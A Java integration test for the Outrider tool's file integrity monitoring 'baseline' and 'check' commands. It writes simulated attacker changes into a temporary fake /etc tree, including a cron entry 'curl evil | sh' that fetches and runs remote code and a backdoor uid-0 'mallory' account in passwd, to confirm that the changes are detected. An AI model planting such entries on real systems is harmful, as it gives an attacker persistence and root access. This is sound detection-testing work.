package io.outrider.it;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** {@code outrider fim baseline|check} with the real fim plugin, and the agent delivering what a check found. */
class TestFimCommand
{
    @Test
    void baselineThenCheckReportsEveryChangeAndTheAgentStillDeliversThem(@TempDir Path dir)
            throws Exception
    {
        Path tree = Files.createDirectories(dir.resolve("etc"));
        Files.writeString(tree.resolve("passwd"), "root:x:0:0::/root:/bin/sh\n");
        Files.writeString(tree.resolve("hosts"), "127.0.0.1 localhost\n");
        Files.writeString(tree.resolve("motd"), "hello\n");
        Files.writeString(tree.resolve("sshd_config"), "PermitRootLogin no\n");
        Path config = Files.writeString(dir.resolve("outrider.yaml"), """
                agent: { data_dir: %s }
                pipelines:
                  integrity:
                    inputs:
                      etc: { type: fim, paths: ["%s"], watch_agent_files: false }
                    outputs:
                      out: { type: console, format: text, delivery: { max_wait: 50ms } }
                """.formatted(dir.resolve("data"), tree));

        Outrider.Result noBaseline = Outrider.run(dir, Map.of(), "fim", "check", "-c", config.toString());
        assertThat(noBaseline.exitCode()).isEqualTo(2);
        assertThat(noBaseline.stdout()).isEqualTo("integrity.etc: no baseline yet; build it with 'outrider fim baseline'\n");

        Outrider.Result baseline = Outrider.run(dir, Map.of(), "fim", "baseline", "-c", config.toString());
        assertThat(baseline.exitCode()).as(baseline.stderr()).isZero();
        assertThat(baseline.stdout()).startsWith("integrity.etc — baseline built\n").containsPattern("files\\s+4\n");

        Files.writeString(tree.resolve("passwd"), "root:x:0:0::/root:/bin/sh\nmallory:x:0:0::/:/bin/sh\n");
        Files.writeString(tree.resolve("cron.hourly"), "* * * * * curl evil | sh\n");
        Files.delete(tree.resolve("motd"));
        Files.setPosixFilePermissions(tree.resolve("sshd_config"), PosixFilePermissions.fromString("rw-rw-rw-"));

        Outrider.Result check = Outrider.run(dir, Map.of(), "fim", "check", "-c", config.toString());
        assertThat(check.exitCode()).as(check.stderr()).isEqualTo(1);
        assertThat(check.stdout()).containsPattern("modified\\s+" + tree.resolve("passwd"))
                .containsPattern("created\\s+" + tree.resolve("cron.hourly"))
                .containsPattern("deleted\\s+" + tree.resolve("motd"))
                .containsPattern("attributes_changed\\s+" + tree.resolve("sshd_config"))
                .containsPattern("modified\\s+1\n").containsPattern("created\\s+1\n").containsPattern("deleted\\s+1\n").containsPattern("attributes changed\\s+1\n");

        Outrider.Result clean = Outrider.run(dir, Map.of(), "fim", "check", "-c", config.toString());
        assertThat(clean.exitCode()).as(clean.stdout()).isZero();

        // the changes the check found were committed to the buffer: the agent delivers them
        Outrider agent = Outrider.start(dir.resolve("run"), Map.of("OUTRIDER_DATA_DIR", dir.resolve("data").toString()), "run", "-c", config.toString());
        List<String> delivered = agent.awaitStdout(lines -> lines.stream().anyMatch(line -> line.contains("cron.hourly")) && lines.stream().anyMatch(line -> line.contains("motd")),
                Duration.ofSeconds(60), "the changes found by the check");
        agent.signal("TERM");
        assertThat(agent.waitFor(Duration.ofSeconds(30))).isZero();
        assertThat(delivered).anySatisfy(line -> assertThat(line).contains(" modified ", tree.resolve("passwd").toString()));
    }
}
